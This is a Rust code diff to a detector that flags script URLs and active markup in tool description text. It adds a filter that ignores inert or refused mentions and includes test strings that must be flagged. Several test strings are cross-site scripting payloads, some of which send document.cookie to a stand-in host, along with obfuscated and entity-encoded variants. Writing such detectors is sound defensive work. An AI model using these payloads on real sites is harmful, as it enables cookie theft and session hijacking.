@@ -42,16 +42,33 @@ static ACTIVE_MARKUP: LazyLock<Regex> = LazyLock::new(|| {
     .expect("static regex")
 });
 
-/// A script URL that calls something, wherever it is written
-/// (`javascript:alert(1)`, `javascript:/*x*/fetch(…)`,
-/// `javascript://%0aalert(1)`); the name called is captured, since
-/// `javascript:void(0)` does nothing.
-static SCRIPT_CALL: LazyLock<Regex> = LazyLock::new(|| {
-    Regex::new(
-        r"(?i)\b(?:javascript|vbscript|livescript):\s*(?:/\*.*?\*/\s*|//.*?(?:%0a|%0d|\n)\s*)*([a-z_$][\w$.]*)\s*(?:\(|%28)",
-    )
-    .expect("static regex")
+/// A script URL with a body, wherever it is written: the scheme and, with
+/// no space after the colon, whatever runs (`javascript:alert(1)`,
+/// `javascript:(alert)(1)`, `javascript:/*x*/fetch(…)`,
+/// `javascript://%0aalert(1)`). "JavaScript: console.log(…)" is a label in
+/// prose, and `javascript:void(0)` runs nothing.
+static SCRIPT_URL: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r#"(?i)\b(?:javascript|vbscript|livescript):([^\s"'<>]+)"#).expect("static regex")
 });
+
+/// Script URL bodies that do nothing.
+static INERT_BODY: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r"(?i)^(void\s*\(\s*0\s*\)|void\s+0|;|#|/+)?[;,.)\]]*$").expect("static regex")
+});
+
+/// Words that make a written script URL the thing refused, not the thing run.
+static REFUSED: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r"(?i)\b(strip|strips|stripped|sanitis\w*|sanitiz\w*|reject|rejects|rejected|block|blocks|blocked|remove|removes|removed|filter|filters|filtered|escape|escapes|escaped|neutrali[sz]\w*|detect|detects|detected|disallow\w*|forbid\w*|deny|denies|denied|refuse|refuses|refused|prevent|prevents|prevented)\b").expect("static regex")
+});
+
+/// A script URL written out with a body that runs, in a sentence that does not refuse it.
+fn script_url(decoded: &str) -> Option<regex::Match<'_>> {
+    SCRIPT_URL.captures_iter(decoded).find_map(|c| {
+        let (whole, body) = (c.get(0)?, c.get(1)?);
+        let sentence = super::text::sentence_before(decoded, whole.start(), 200);
+        (!INERT_BODY.is_match(body.as_str()) && !REFUSED.is_match(sentence)).then_some(whole)
+    })
+}
 
 /// Text with numeric and the common named character references decoded, and
 /// tabs and line breaks dropped: what a browser's URL and tag parsers see.
@@ -60,7 +77,7 @@ fn decoded_markup(raw: &str) -> std::borrow::Cow<'_, str> {
         return std::borrow::Cow::Borrowed(raw);
     }
     static REFERENCE: LazyLock<Regex> = LazyLock::new(|| {
-        Regex::new(r"(?i)&(#x[0-9a-f]{1,6}|#[0-9]{1,7}|colon|tab|newline|lt|gt|quot|apos|amp|lpar|rpar|sol|equals);?")
+        Regex::new(r"(?i)&(#x0*[0-9a-f]{1,6}|#0*[0-9]{1,7}|colon|tab|newline|lt|gt|quot|apos|amp|lpar|rpar|sol|equals);?")
             .expect("static regex")
     });
     let decoded = REFERENCE.replace_all(raw, |c: &regex::Captures<'_>| {
@@ -169,12 +186,10 @@ pub(crate) fn check(field: &TextField<'_>, tool: &Tool, hits: &mut Vec<Hit>) {
     }
 
     let decoded = decoded_markup(raw);
-    if let Some(m) = ACTIVE_MARKUP.find(&decoded).or_else(|| {
-        SCRIPT_CALL
-            .captures_iter(&decoded)
-            .find(|c| !c[1].eq_ignore_ascii_case("void"))
-            .and_then(|c| c.get(0))
-    }) {
+    if let Some(m) = ACTIVE_MARKUP
+        .find(&decoded)
+        .or_else(|| script_url(&decoded))
+    {
         hits.push(hit(
             "tool-active-markup",
             format!(
@@ -417,6 +432,12 @@ mod tests {
             "Link tool with javascript:alert(1) execution",
             "Opens javascript:/* harmless */fetch('//c.example/'+document.cookie)",
             "Preview: javascript://%0aalert(document.domain)",
+            "Link helper. Opens JaVaScRiPt:window['al'+'ert'](document.cookie) on load.",
+            "Link helper. Opens javascript:(alert)(document.domain) on load.",
+            "Link helper. Opens javascript:void(fetch('//c.example/'+document.cookie)) on load.",
+            "Link helper. Opens javascript:location='//c.example/?c='+document.cookie on load.",
+            "Link helper. Opens vbscript:MsgBox(1) on load.",
+            "Charts. <a href=\"&#x000000006A;avascript:alert(1)\">help</a>",
         ] {
             assert_eq!(desc(hidden), ["tool-active-markup"], "{hidden}");
         }
@@ -564,6 +585,9 @@ mod tests {
         for prose in [
             "Finds elements with inline event handlers, e.g. onclick=submitForm() or onload=init().",
             "Clicks a link, including javascript:void(0) links used by single-page apps.",
+            "Runs snippets. Python: print('hi'). JavaScript: console.log('hi').",
+            "Sanitises HTML: strips inline handlers and script URLs such as javascript:alert(1).",
+            "Validates links. Rejects javascript: and vbscript: schemes, for example javascript:alert(document.cookie).",
             "Runs JavaScript: the code is evaluated in the page.",
             "Set onboarding = true to show the tour.",
         ] {
